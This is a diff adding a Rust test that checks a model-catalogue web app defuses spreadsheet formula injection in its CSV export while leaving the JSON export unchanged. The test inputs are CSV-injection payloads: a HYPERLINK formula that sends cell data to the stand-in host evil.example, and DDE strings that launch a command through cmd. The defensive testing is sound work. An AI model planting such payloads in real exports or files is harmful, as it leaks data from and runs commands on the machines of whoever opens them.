@@ -160,3 +160,41 @@ async fn the_command_line_exports_the_same_models() {
         .unwrap();
     assert!(!output.status.success(), "a bad filter fails");
 }
+
+/// A spreadsheet runs a cell starting with `=`, `+`, `-` or `@` (after a tab or a carriage
+/// return, too) as a formula: such text leaves the CSV export with a leading `'` and quoted, as
+/// OWASP advises, while numbers (a negative one too) stay numbers and JSON keeps the text as stored.
+#[tokio::test]
+async fn text_a_spreadsheet_would_run_as_a_formula_is_defused_in_csv_only() {
+    let app = spawn_app().await;
+    let editor = app.editor_token(EditorRole::Editor).await;
+    let name = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
+    let create = r#"mutation($name: String!) { createModel(input: { slug: "formula", name: $name, published: true,
+        hardware: "+cmd|' /C calc'!A0", license: "@SUM(1+1)*cmd|' /C calc'!A0", trainingDataset: "-2+3+cmd|' /C calc'!A0",
+        trainingComputeFlop: 1.5e24 }) { slug } }"#;
+    let (status, body) = app.post_graphql_as(&editor, create, json!({ "name": name })).await;
+    assert_eq!((status, &body["data"]["createModel"]["slug"]), (200, &json!("formula")), "{body}");
+    let filter = json!({ "slug": { "eq": "formula" } });
+
+    let body = get(&app, "/export/models.csv", Some(&filter), None).await.text().await.unwrap();
+    assert_eq!(csv_slugs(&body), ["formula"]);
+    let mut reader = csv::ReaderBuilder::new().comment(Some(b'#')).from_reader(body.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let record = reader.records().next().unwrap().unwrap();
+    let cell = |column: &str| record[headers.iter().position(|h| h == column).unwrap()].to_owned();
+    assert_eq!(cell("name"), format!("'{name}"));
+    assert_eq!(cell("hardware"), "'+cmd|' /C calc'!A0");
+    assert_eq!(cell("license"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell("training_dataset"), "'-2+3+cmd|' /C calc'!A0");
+    assert_eq!(cell("training_compute_flop"), "1500000000000000000000000", "{body}");
+    // The defused cells are quoted in the file itself, numbers are not.
+    let line = body.lines().find(|l| l.starts_with("\"formula\"")).expect("the model's line");
+    assert!(line.contains("\"'=HYPERLINK(\"\"http://evil.example/"), "{line}");
+    assert!(line.contains(",1500000000000000000000000,"), "{line}");
+
+    let json: Value = get(&app, "/export/models.json", Some(&filter), None).await.json().await.unwrap();
+    let model = &json["models"][0];
+    assert_eq!(model["name"], json!(name));
+    assert_eq!(model["hardware"], json!("+cmd|' /C calc'!A0"));
+    assert_eq!(app.client.get(app.url("/healthz")).send().await.unwrap().status(), 200);
+}
